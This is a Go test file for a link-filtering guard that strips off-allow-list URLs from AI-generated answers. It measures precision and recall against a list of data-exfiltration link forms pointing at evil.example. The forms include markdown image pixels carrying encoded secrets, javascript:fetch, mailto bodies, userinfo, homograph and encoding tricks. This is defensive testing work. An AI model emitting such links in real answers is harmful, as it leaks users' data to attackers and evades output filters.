package main

import (
	"fmt"
	"strings"
	"testing"

	"github.com/parley-search/parley/sdk/guard"
	"github.com/parley-search/parley/sdk/plugintest"
)

// leaks are the shapes in which answers took data away, as public reports have them, with
// example hosts. Each must lose its host.
var leaks = []string{
	"![a](https://evil.example/?p=c2VjcmV0)",
	"![data exfiltration in progress](https://evil.example/logo.png?q=c2VjcmV0)",
	"![test](https://evil.example/lion+14old+password)",
	"![x](https://evil.example/pixel.png?leak=SECRET \"a title\")",
	"[click here](https://evil.example/?q=secret)",
	"[click](<https://evil.example/?q=a secret>)",
	"<img src=\"https://evil.example/x.png?data=secret\">",
	"<img src='//evil.example/x.png?data=secret'>",
	"<img src=https://evil.example/x.png?data=secret>",
	"[ref]: https://evil.example/?q=secret",
	"![image][ref]\n\n[ref]: <https://evil.example/?q=secret> 'title'",
	"<https://evil.example/?q=secret>",
	"https://evil.example/?q=secret",
	"See https://evil.example/secret.",
	"www.evil.example/?q=secret",
	"![x](//evil.example/?q=secret)",
	"![x](/\\evil.example/?q=secret)",
	"![x](\\\\evil.example/?q=secret)",
	"![x](https:evil.example/?q=secret)",
	"![x](https:/\\evil.example/?q=secret)",
	"![x](HTTPS://EVIL.EXAMPLE/?q=secret)",
	"![x](https://docs.example.com@evil.example/?q=secret)",
	"![x](https://evil.example\\@docs.example.com/?q=secret)",
	"![x](https://docs.example.com.evil.example/?q=secret)",
	"![x](https://evil.example#docs.example.com)",
	"![x]( https://evil.example/?q=secret )",
	"![x](\nhttps://evil.example/?q=secret)",
	"![x](&#104;ttps://evil.example/?q=secret)",
	"![x](&#x2F;&#x2F;evil.example/?q=secret)",
	"![x](javascript:fetch('https://evil.example'))",
	"[x](mailto:a@evil.example?body=secret)",
	"[![inner](https://evil.example/1)](https://evil.example/2)",
	"![x](https://ｅvil.example/?q=secret)",
	"![x](https://secret.evil.example)",
	"ftp://evil.example/secret",
	"![x](https://docs.example.com:443@evil.example/)",
	"**https://evil.example/**",
	"(https://evil.example/a(b)c)",
	"请看https://evil.example/秘密。谢谢",
	"<a href=\"https://evil.example/?q=1\">x</a>",
	"<link rel=stylesheet href=//evil.example/x.css>",
	"custom+app://evil.example/?q=secret",
	"![x](" + "https://evil.example/" + strings.Repeat("a", 3000) + ")",
}

// kept are links of answers that nobody should miss.
var kept = []string{
	"See [the guide](https://docs.example.com/a_(b)#c \"title\").", "![logo](https://img.docs.example.com/l.png)", "<https://docs.example.com/x>",
	"https://docs.example.com/?u=1&v=2, and so on", "[up](../other.md) [top](#top) [root](/a/b)", "[mail](mailto:help@mail.example)", "[call](tel:+4930123456)",
	"a[1]: int, b[i](x), c: d", "x := a[i]; m[\"k\"]: 3", "7//2 and a//b // comment", "C:\\Users\\x and \\n", "12:30 is at 1:1, see: this", "see [1] and [2]: both hold",
	"if a[0](b) { return }", "https is a scheme; http: too", "[text] (not a link)", "std::vector<int>", "key:value, a:b:c", "and/or, 1/2, //", "ratio 3:4", "](", "]", ":", "http://",
	"[the source](https://wiki.example.org/page)", "https://wiki.example.org/x. And more", "und so weiter]: ja", "`[]string{\"a\"}`", "日本語：これ", "https:", "<b>bold</b>", "end with h",
}

func newGuard(t *testing.T) *plugintest.GuardDriver {
	d := plugintest.NewGuard(t, &links{}, "manifest.json")
	d.SetOptions(`{"hosts": "docs.example.com *.docs.example.com"}`)
	d.Whole(guard.Passages, plugintest.Hit("A page", "https://wiki.example.org/page?x=1", "https://evil.example is in its text")...)
	return d
}

func TestMeasured(t *testing.T) {
	d := newGuard(t)
	var score plugintest.Score
	for _, leak := range leaks {
		for _, form := range []string{"%s", "Here it is: %s and more text.", "First\n\n%s\n\nlast"} {
			text := fmt.Sprintf(form, leak)
			got := d.Cuts(guard.Answer, text, max(1, min(30, 20000/len(text))))
			if lower := strings.ToLower(got.Text()); strings.Contains(lower, "evil") || strings.Contains(lower, "ｅvil") {
				score.Missed++
				t.Errorf("%q passed as %q", text, got.Text())
			} else {
				score.Right++
			}
		}
	}
	for _, text := range kept {
		if got := d.Cuts(guard.Answer, text, 30); got.Text() != text {
			score.False++
			t.Errorf("%q passed as %q", text, got.Text())
		}
	}
	plugintest.HoldTable(t, "README.md", fmt.Sprintf("| links | to other hosts | precision | recall |\n|---|---|---|---|\n%s",
		score.Row(fmt.Sprintf("%d ways to take data away, in 3 texts; %d texts to keep", len(leaks), len(kept)))))
}

func TestShown(t *testing.T) {
	d := newGuard(t)
	for text, want := range map[string]string{
		"[the text](https://evil.example/x) stays":     "[the text] stays",
		"![alt](https://evil.example/x.png) stays":     "![alt] stays",
		"see https://evil.example/x, then":             "see (link removed), then",
		"<https://evil.example/x>":                     "(link removed)",
		"[r]: https://evil.example/x\nnext":            "[r]: #\nnext",
		"[a](https://evil.example/x \"words\") behind": "[a] behind",
	} {
		if got := d.Cuts(guard.Answer, text, 200); got.Text() != want {
			t.Errorf("%q: got %q, want %q", text, got.Text(), want)
		}
	}
	if got := d.Cuts(guard.Answer, "a https://docs.example.com/"+strings.Repeat("a", 5000), 1); got.How == 0 || got.Text() != "a " {
		t.Errorf("a link of 5,000 bytes: got %d bytes, %+v, want it refused", len(got.Text()), got.Blocked)
	}
}

// TestLongWords: a word that is let go in parts, since it is long, leads nowhere either.
func TestLongWords(t *testing.T) {
	d := plugintest.NewGuard(t, &links{}, "manifest.json")
	for text, want := range map[string]string{
		"a topicwww.evil.examplehttpwww.evil.example. ":            "a topic(link removed). ",
		"a " + strings.Repeat("x", 40) + "www.evil.example/?q=1 b": "a " + strings.Repeat("x", 40) + "(link removed) b",
		"awww. Ewww! www.": "awww. Ewww! www.",
	} {
		if got := d.Cuts(guard.Answer, text, 300); got.Text() != want {
			t.Errorf("%q: got %q, want %q", text, got.Text(), want)
		}
	}
}
